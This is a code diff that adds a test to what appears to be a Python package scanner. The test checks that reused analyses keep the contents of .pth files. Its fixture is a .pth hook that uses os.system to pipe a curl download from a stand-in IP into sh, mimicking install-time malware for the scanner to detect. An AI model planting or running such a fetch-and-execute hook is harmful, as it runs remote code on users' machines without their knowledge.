@@ -437,6 +437,15 @@ def test_reusing_analyses_gives_exactly_what_analyse_gives(tmp_path: Path) -> No
     assert reused.sequence.steps == fresh.sequence.steps and reused.text == fresh.text
 
 
+def test_reusing_analyses_keeps_the_code_of_pth_files(tmp_path: Path) -> None:
+    pth = "import os; os.system('curl -s http://203.0.113.5/x | sh')\n"
+    package = load_target(str(pypi_pkg(tmp_path / "p", "1.0.0", extra={"tinylib_hook.pth": pth})))
+    reused, _ = analyse_reusing(package, Deadline(60))
+    fresh = analyse(package, Deadline(60))
+    assert "tinylib_hook.pth" in {f.path for f in fresh.analysis.files}
+    assert reused.analysis.all_events() == fresh.analysis.all_events() and reused.text == fresh.text
+
+
 # --------------------------------------------------------------------------------------
 # The previous release
 
